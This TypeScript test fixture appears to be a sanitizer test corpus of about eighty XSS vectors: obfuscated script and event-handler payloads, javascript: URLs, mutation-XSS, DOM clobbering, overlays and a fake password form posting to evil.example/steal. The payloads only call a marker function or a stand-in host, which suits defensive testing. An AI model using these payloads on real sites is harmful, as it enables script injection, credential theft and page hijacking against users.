/**
 * Hostile HTML written the way attackers write it, after the OWASP XSS filter-evasion cheat
 * sheet and the published mutation-XSS (mXSS) and DOM-clobbering write-ups. Every vector that
 * could run code calls `__xss(id)` (a binding the suite exposes), so an execution names its
 * vector; every vector that could load something asks `evil.example`, so a leak is seen as a
 * request; the overlay vectors use the app's own utility classes and inline styles, so they
 * really cover the page if they survive.
 */

export type XssFamily =
  | 'script'
  | 'handler'
  | 'url'
  | 'svg'
  | 'mxss'
  | 'embed'
  | 'markup'
  | 'overlay'
  | 'css'
  | 'link'
  | 'clobber';

export interface XssVector {
  /** Stable name: the payload calls __xss(id) if it ever runs. */
  id: string;
  family: XssFamily;
  html: string;
}

/** The host every vector sends its requests to; a request to it means something leaked. */
export const hostileHost = 'evil.example';

const run = (id: string) => `__xss('${id}')`;

/** The vectors of one family, each written as [id, html]. */
function family(name: XssFamily, vectors: [string, string][]): XssVector[] {
  return vectors.map(([id, html]) => ({ id, family: name, html }));
}

export const xssCorpus: readonly XssVector[] = [
  // Script elements, plain and mangled.
  ...family('script', [
    ['script', `<script>${run('script')}</script>`],
    ['script-case', `<ScRiPt>${run('script-case')}</sCrIpT>`],
    ['script-src-data', `<script src="data:text/javascript,${run('script-src-data')}"></script>`],
    ['script-src-remote', `<script src="https://${hostileHost}/x.js"></script>`],
    ['script-double-lt', `<<script>${run('script-double-lt')}//<</script>`],
    ['script-nested', `<scr<script>ipt>${run('script-nested')}</scr</script>ipt>`],
    ['script-attr-breakout', `"><script>${run('script-attr-breakout')}</script>`],
    ['script-slash', `<script/xss src="data:,${run('script-slash')}"></script>`],
  ]),
  // Event handlers, in every spelling.
  ...family('handler', [
    ['img-onerror', `<img src=x onerror="${run('img-onerror')}">`],
    ['img-onerror-case', `<IMG SRC=x OnErRoR=${run('img-onerror-case')}>`],
    ['img-onerror-entities', `<img src=x onerror="&#95;&#95;xss&#40;'img-onerror-entities'&#41;">`],
    ['img-onerror-own', `<img src="/uploads/missing.webp" onerror="${run('img-onerror-own')}">`],
    ['img-slash-separator', `<img/src="x"/onerror=${run('img-slash-separator')}>`],
    ['body-onload', `<body onload="${run('body-onload')}">`],
    [
      'details-ontoggle',
      `<details open ontoggle="${run('details-ontoggle')}"><summary>s</summary></details>`,
    ],
    ['input-autofocus', `<input autofocus onfocus="${run('input-autofocus')}">`],
    [
      'p-onmouseover',
      `<p onmouseover="${run('p-onmouseover')}" onclick="${run('p-onclick')}">hover me</p>`,
    ],
    ['video-source', `<video><source onerror="${run('video-source')}"></video>`],
    ['audio-onerror', `<audio src=x onerror="${run('audio-onerror')}">`],
    ['marquee-onstart', `<marquee onstart="${run('marquee-onstart')}">m</marquee>`],
  ]),
  // Dangerous URLs: javascript:, data:, vbscript:, encoded and mixed case.
  ...family('url', [
    ['a-js', `<a href="javascript:${run('a-js')}">js</a>`],
    ['a-js-case', `<a href="JaVaScRiPt:${run('a-js-case')}">js</a>`],
    ['a-js-tab', `<a href="jav&#x09;ascript:${run('a-js-tab')}">js</a>`],
    ['a-js-newline', `<a href="java\nscript:${run('a-js-newline')}">js</a>`],
    [
      'a-js-decimal',
      `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run('a-js-decimal')}">js</a>`,
    ],
    [
      'a-js-hex',
      `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${run('a-js-hex')}">js</a>`,
    ],
    [
      'a-js-padded',
      `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${run('a-js-padded')}">js</a>`,
    ],
    [
      'a-js-leading-controls',
      `<a href=" &#14;  javascript:${run('a-js-leading-controls')}">js</a>`,
    ],
    ['a-js-named-entity', `<a href="javascript&colon;${run('a-js-named-entity')}">js</a>`],
    [
      'a-data-html',
      `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygnYS1kYXRhLWh0bWwnKTwvc2NyaXB0Pg==">data</a>`,
    ],
    ['a-vbscript', `<a href="vbscript:msgbox(1)">vb</a>`],
    ['img-src-js', `<img src="javascript:${run('img-src-js')}">`],
  ]),
  // SVG and MathML: their own parsing rules and their own ways to run script.
  ...family('svg', [
    ['svg-onload', `<svg onload="${run('svg-onload')}"></svg>`],
    ['svg-script', `<svg><script>${run('svg-script')}</script></svg>`],
    [
      'svg-animate',
      `<svg><animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"></animate></svg>`,
    ],
    [
      'svg-xlink',
      `<svg><a xlink:href="javascript:${run('svg-xlink')}"><text x="20" y="20">x</text></a></svg>`,
    ],
    [
      'svg-set-href',
      `<svg><a><set attributeName="href" to="javascript:${run('svg-set-href')}"/><text y="20">y</text></a></svg>`,
    ],
  ]),
  // Mutation XSS: markup that changes meaning when parsed, serialised and parsed again.
  ...family('mxss', [
    [
      'mxss-noscript',
      `<noscript><p title="</noscript><img src=x onerror=${run('mxss-noscript')}>"></noscript>`,
    ],
    ['mxss-template', `<template><img src=x onerror="${run('mxss-template')}"></template>`],
    ['mxss-svg-style', `<svg><style><img src=x onerror="${run('mxss-svg-style')}"></style></svg>`],
    [
      'mxss-math-mglyph',
      `<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss-math-mglyph')}"></style></mglyph></table></mtext></math>`,
    ],
    [
      'mxss-math-mi',
      `<math><mi><style><img src=x onerror="${run('mxss-math-mi')}"></style></mi></math>`,
    ],
    [
      'mxss-form-math',
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run('mxss-form-math')}">`,
    ],
    ['mxss-svg-p', `<svg></p><style><a id="</style><img src=1 onerror=${run('mxss-svg-p')}>">`],
    ['mxss-comment', `<!--<img src="--><img src=x onerror=${run('mxss-comment')}//">`],
    ['mxss-title', `<title><img src=x onerror="${run('mxss-title')}"></title>`],
    ['mxss-textarea', `<textarea><img src=x onerror="${run('mxss-textarea')}"></textarea>`],
    ['mxss-xmp', `<xmp><img src=x onerror="${run('mxss-xmp')}"></xmp>`],
    ['mxss-cdata', `<svg><![CDATA[><img src=x onerror="${run('mxss-cdata')}">]]></svg>`],
  ]),
  // Frames, objects and embeds.
  ...family('embed', [
    ['iframe-js', `<iframe src="javascript:parent.${run('iframe-js')}"></iframe>`],
    ['iframe-srcdoc', `<iframe srcdoc="<script>parent.${run('iframe-srcdoc')}</script>"></iframe>`],
    ['iframe-remote', `<iframe src="https://${hostileHost}/frame"></iframe>`],
    ['object-data', `<object data="javascript:${run('object-data')}"></object>`],
    ['embed-src', `<embed src="javascript:${run('embed-src')}">`],
  ]),
  // Markup that takes over the page: refresh, base, forms, stylesheets.
  ...family('markup', [
    [
      'meta-refresh-js',
      `<meta http-equiv="refresh" content="0;url=javascript:${run('meta-refresh-js')}">`,
    ],
    [
      'meta-refresh-remote',
      `<meta http-equiv="refresh" content="0;url=https://${hostileHost}/phish">`,
    ],
    ['base-href', `<base href="https://${hostileHost}/">`],
    [
      'form-action',
      `<form action="https://${hostileHost}/steal" method="post"><input name="password" type="password" placeholder="Confirm your password"><button>Continue</button></form>`,
    ],
    [
      'form-action-js',
      `<form action="javascript:${run('form-action-js')}"><button>go</button></form>`,
    ],
    [
      'button-formaction',
      `<button formaction="javascript:${run('button-formaction')}">go</button>`,
    ],
    ['link-stylesheet', `<link rel="stylesheet" href="https://${hostileHost}/x.css">`],
  ]),
  // Overlays: the app's own utility classes, inline styles, oversized images.
  ...family('overlay', [
    [
      'overlay-link-span',
      `<a href="https://${hostileHost}/phish"><span class="fixed inset-0 z-50">Click anywhere</span></a>`,
    ],
    [
      'overlay-div-class',
      `<div class="fixed inset-0 z-50 bg-surface">Session expired, sign in again</div>`,
    ],
    ['overlay-code-class', `<code class="absolute inset-0 z-50 min-h-screen w-full">x</code>`],
    ['overlay-sticky', `<span class="sticky top-0 z-50">pinned</span>`],
    [
      'overlay-style',
      `<span style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647">x</span>`,
    ],
    [
      'overlay-huge-image',
      `<img src="https://${hostileHost}/pixel.gif" width="4000" height="4000" alt="">`,
    ],
  ]),
  // CSS that loads or hides things.
  ...family('css', [
    ['css-background', `<p style="background:url(https://${hostileHost}/track.png)">styled</p>`],
    ['css-import', `<style>@import url(https://${hostileHost}/x.css); body{display:none}</style>`],
    ['tracking-pixel', `<img src="https://${hostileHost}/open.gif">`],
    ['tracking-pixel-relative-scheme', `<img src="//${hostileHost}/p.gif">`],
    ['image-path-escape', `<img src="/uploads/../api/auth/session">`],
  ]),
  // Links that leave the site without noopener (reverse tabnabbing) or take the top window.
  ...family('link', [
    ['link-protocol-relative', `<a href="//${hostileHost}/tab">pr</a>`],
    ['link-backslash', `<a href="/\\${hostileHost}/tab">bs</a>`],
    ['link-tab-slash', `<a href="/&#9;/${hostileHost}/tab">ts</a>`],
    ['link-target-top', `<a href="https://${hostileHost}/top" target="_top">top</a>`],
    [
      'link-rel-opener',
      `<a href="https://${hostileHost}/opener" rel="opener" target="_blank">opener</a>`,
    ],
  ]),
  // DOM clobbering: ids and names that shadow globals the app reads.
  ...family('clobber', [
    ['clobber-id', `<a id="root" href="/">root</a>`],
    ['clobber-name', `<img name="getElementById" src="/uploads/x.webp">`],
    ['clobber-form', `<form id="__vite_ssr_import__"><input name="attributes"></form>`],
  ]),
];

/** The vectors short enough for a field of `max` characters. */
export function vectorsFitting(max: number): XssVector[] {
  return xssCorpus.filter((vector) => vector.html.length <= max);
}

/** As many vectors as fit in `max` characters, joined. */
export function packedVectors(max: number): string {
  let packed = '';
  for (const { html } of xssCorpus)
    if (packed.length + html.length + 1 <= max) packed += `${html} `;
  return packed.trim();
}
